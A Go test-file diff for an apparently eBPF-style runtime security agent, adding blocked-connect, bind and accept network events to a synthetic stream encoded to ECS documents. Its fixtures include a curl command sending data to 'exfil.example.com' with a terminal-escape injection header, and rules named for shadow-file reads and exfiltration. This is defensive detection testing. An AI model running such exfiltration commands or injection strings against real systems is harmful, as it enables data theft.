@@ -5,6 +5,7 @@ import (
 	"context"
 	"errors"
 	"flag"
+	"net/netip"
 	"os"
 	"path/filepath"
 	"slices"
@@ -34,14 +35,21 @@ var boot = time.Date(2026, 11, 22, 8, 0, 0, 0, time.UTC)
 // stream encodes, with the real encoder, what a node sees in a few seconds:
 // an exec in a pod's container, a blocked exec (an alert that is also
 // logged), a file alert also logged, the node's own sshd, a fork, an exec
-// with long and hostile arguments and its end in a container outside
-// Kubernetes, a heartbeat and metrics.
+// with long and hostile arguments, its blocked connect (an alert also
+// logged) and its end in a container outside Kubernetes, a bind and an
+// accept (IPv6) logged in the pod, a heartbeat and metrics.
 func stream(t testing.TB) [][]byte {
 	selectors := map[string][]string{"/bin/cat": {"logExecs"}, "/tmp/evil": {"binDrift", "noTmpExec"}, "/etc/shadow": {"shadowRead"},
 		"/usr/sbin/sshd": {"nodeExecs"}, "": {"logExecs"}, "/usr/bin/curl": {"logExecs"}}
+	netSelectors := map[policy.Op][]string{policy.OpConnect: {"noExfil"}, policy.OpAccept: {"logListeners"}, policy.OpBind: {"logListeners"}}
 	enc := ecs.NewEncoder(ecs.Agent{ID: "agent-1", Version: "0.1.0"},
 		host.Host{Hostname: "node-1", Name: "node-1", Architecture: "x86_64", OS: host.OS{Family: "debian", Kernel: "6.8.0"}}, nil, boot,
-		func(ev *event.Event) ([]string, error) { return selectors[ev.Path], nil })
+		func(ev *event.Event) ([]string, error) {
+			if ev.Kind == event.NetworkDecision {
+				return netSelectors[ev.Op], nil
+			}
+			return selectors[ev.Path], nil
+		})
 	meta := ecs.Meta{Namespace: "default", PackagePolicyID: "pp-1", Revision: 3}
 	var docs [][]byte
 	emit := func(d ecs.Doc) { docs = append(docs, slices.Clone(d.Body)) }
@@ -72,6 +80,8 @@ func stream(t testing.TB) [][]byte {
 		Executable: "/bin/sh", Name: "sh", Args: []string{"sh"}}
 	curl := proctree.Process{PID: 75, PPID: 70, Start: 8 * time.Second, EntityID: proctree.EntityID("agent-1", 75, 8*time.Second),
 		Executable: "/usr/bin/curl", Name: "curl", Args: []string{"curl", "-s", "-H", "X-Evil: \x1b]0;pwned\x07", "https://exfil.example.com/upload?data=" + strings.Repeat("A", 80)}}
+	nginx := proctree.Process{PID: 76, PPID: 1, Start: 2 * time.Second, EntityID: proctree.EntityID("agent-1", 76, 2*time.Second),
+		Executable: "/usr/sbin/nginx", Name: "nginx", Args: []string{"nginx", "-g", "daemon off;"}}
 	curlEnd := curl
 	curlEnd.Exited, curlEnd.End, curlEnd.ExitKnown, curlEnd.Exit = true, 10*time.Second, true, proctree.Exit{Code: 6}
 
@@ -92,6 +102,17 @@ func stream(t testing.TB) [][]byte {
 			&enrich.Context{Process: view(child), Container: inPod, Pod: pod}},
 		{event.Event{Kind: event.ProcessDecision, Time: 8 * time.Second, Op: policy.OpExec, Actions: policy.ActionLog, Path: "/usr/bin/curl", Process: proc(75, 8*time.Second, "sh")},
 			&enrich.Context{Process: view(curl), Container: bare}},
+		{event.Event{Kind: event.NetworkDecision, Time: 8*time.Second + 5e8, Op: policy.OpConnect, Hook: event.HookSocketConnect,
+			Actions: policy.ActionLog | policy.ActionAlert | policy.ActionBlock, Blocked: true, Protocol: event.ProtocolTCP,
+			Source: netip.MustParseAddrPort("172.17.0.3:40312"), Destination: netip.MustParseAddrPort("203.0.113.9:443"), Direction: event.DirectionEgress,
+			Process: proc(75, 8*time.Second, "curl")}, &enrich.Context{Process: view(curl), Container: bare}},
+		{event.Event{Kind: event.NetworkDecision, Time: 9 * time.Second, Op: policy.OpBind, Hook: event.HookSocketBind, Actions: policy.ActionLog,
+			Protocol: event.ProtocolUDP, Source: netip.MustParseAddrPort("0.0.0.0:8080"), Process: event.Process{PID: 76, TID: 76, PPID: 1, Start: 2 * time.Second, Comm: "nginx"}},
+			&enrich.Context{Process: &proctree.View{Process: nginx}, Container: inPod, Pod: pod}},
+		{event.Event{Kind: event.NetworkDecision, Time: 9*time.Second + 5e8, Op: policy.OpAccept, Hook: event.HookSocketAccept, Actions: policy.ActionLog,
+			Protocol: event.ProtocolTCP, Source: netip.MustParseAddrPort("[::1]:5000"), Destination: netip.MustParseAddrPort("[::1]:8080"), Direction: event.DirectionIngress,
+			Process: event.Process{PID: 76, TID: 76, PPID: 1, Start: 2 * time.Second, Comm: "nginx"}},
+			&enrich.Context{Process: &proctree.View{Process: nginx}, Container: inPod, Pod: pod}},
 		{event.Event{Kind: event.Exit, Time: 10 * time.Second, Actions: policy.ActionLog, Path: "/usr/bin/curl", ExitCode: 6 << 8, Process: proc(75, 8*time.Second, "curl")},
 			&enrich.Context{Process: view(curlEnd), Container: bare}},
 	}
